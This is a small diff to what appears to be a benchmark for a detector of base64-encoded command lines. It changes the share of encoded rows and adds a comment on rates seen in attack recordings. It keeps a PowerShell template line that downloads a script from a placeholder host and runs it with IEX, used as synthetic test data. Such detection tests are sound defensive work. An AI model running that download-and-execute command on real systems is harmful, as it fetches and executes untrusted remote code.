@@ -24,7 +24,7 @@ if TYPE_CHECKING:
 _RUN = re.compile(r"[A-Za-z0-9+/]{30,}={0,2}")
 _SIZES = {"1k rows": 1_000, "10k rows": 10_000, "100k rows": 100_000, "1M rows": 1_000_000}
 _LIMIT = 2.0
-_ENCODED = 0.02  # of the rows; the rest are what hosts run all day
+_ENCODED = 0.01  # of the rows; in recordings of attack campaigns it is 0.7 %, on a quiet host 0.02 %
 _SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://{host}/{name}.ps1'); Start-Sleep {seconds}"
 
 
